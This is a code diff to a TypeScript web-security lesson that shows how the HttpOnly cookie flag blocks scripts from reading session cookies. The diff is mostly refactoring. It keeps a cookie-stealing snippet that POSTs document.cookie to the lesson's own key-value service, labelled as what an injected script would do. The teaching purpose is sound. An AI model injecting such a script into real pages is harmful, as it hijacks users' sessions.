@@ -1,5 +1,5 @@
 import type { Experiment } from '../lesson.ts'
-import type { LessonRecord, SeenExchange } from '../record.ts'
+import type { LessonRecord, JoinedExchange } from '../record.ts'
 import { hasAttribute, parseSetCookie } from '../../cookie/set-cookie.ts'
 import { percentDecoded } from '../../exchange/kv-request.ts'
 import {
@@ -12,17 +12,22 @@ import {
   short,
   type Answered,
   type CountedPage,
-} from '../seen.ts'
-import { told } from '../step.ts'
-import type { Scene } from '../scene.ts'
+} from '../exchange-queries.ts'
+import type { FromScene } from '../from-scene.ts'
+import { step } from '../step.ts'
 import { failedVerdict, passed, pending, type Verdict } from '../../stream/verdict.ts'
-import { cookieSent } from './brought.ts'
+import { cookieSent } from './requests-with-cookie.ts'
 
 const field = 'document.cookie'
 
 // What a script that was smuggled into the page would do: read the cookies, and send them where it likes.
-const stealing = ({ urls }: Scene): string =>
-  `fetch(${JSON.stringify(urls.kv)}, { method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams({ '${field}': document.cookie }) })`
+const stealing: FromScene<string> = {
+  join: [
+    'fetch("',
+    { from: 'address', server: 'kv' },
+    `", { method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams({ '${field}': document.cookie }) })`,
+  ],
+}
 
 const check = ({ exchanges, settings }: LessonRecord): Verdict => {
   const name = settings.SESSION_COOKIE_NAME
@@ -58,7 +63,7 @@ const check = ({ exchanges, settings }: LessonRecord): Verdict => {
 }
 
 /** What a page's script sent to the key-value service as what it could read. */
-const readByScript = (seen: SeenExchange): string | undefined => {
+const readByScript = (seen: JoinedExchange): string | undefined => {
   if (
     seen.requested.to !== 'kv' ||
     seen.requested.method !== 'POST' ||
@@ -80,6 +85,7 @@ const evidenceOf = ({ page, report }: { readonly page: CountedPage; readonly rep
 
 /** HttpOnly and document.cookie. */
 export const httpOnly: Experiment = {
+  kind: 'experiment',
   id: 'http-only',
   title: 'HttpOnly and document.cookie',
   misconception: 'HttpOnly means that the cookie is sent over HTTP only, not over HTTPS.',
@@ -90,16 +96,16 @@ export const httpOnly: Experiment = {
   },
   needsNative: 'A simulated browser runs no scripts, so nothing there could read `document.cookie`.',
   steps: [
-    told('Begin with empty jars, the store off, HttpOnly on', { do: 'prepare', settings: {} }),
-    told('Open the counter in Browser A', { do: 'open', browser: 'browser-a', address: '/' }),
-    told('A script of the page sends what it can read to the key-value service', {
+    step('Begin with empty jars, the store off, HttpOnly on', { do: 'prepare', settings: {} }),
+    step('Open the counter in Browser A', { do: 'open', browser: 'browser-a', address: '/' }),
+    step('A script of the page sends what it can read to the key-value service', {
       do: 'script',
       browser: 'browser-a',
       code: stealing,
     }),
-    told('Switch SESSION_COOKIE_HTTPONLY off', { do: 'set', change: { key: 'SESSION_COOKIE_HTTPONLY', value: false } }),
-    told('Reload Browser A: the same cookie, without the attribute', { do: 'reload', browser: 'browser-a' }),
-    told('The same script again', { do: 'script', browser: 'browser-a', code: stealing }),
+    step('Switch SESSION_COOKIE_HTTPONLY off', { do: 'set', change: { key: 'SESSION_COOKIE_HTTPONLY', value: false } }),
+    step('Reload Browser A: the same cookie, without the attribute', { do: 'reload', browser: 'browser-a' }),
+    step('The same script again', { do: 'script', browser: 'browser-a', code: stealing }),
   ],
   check,
   explanation: [
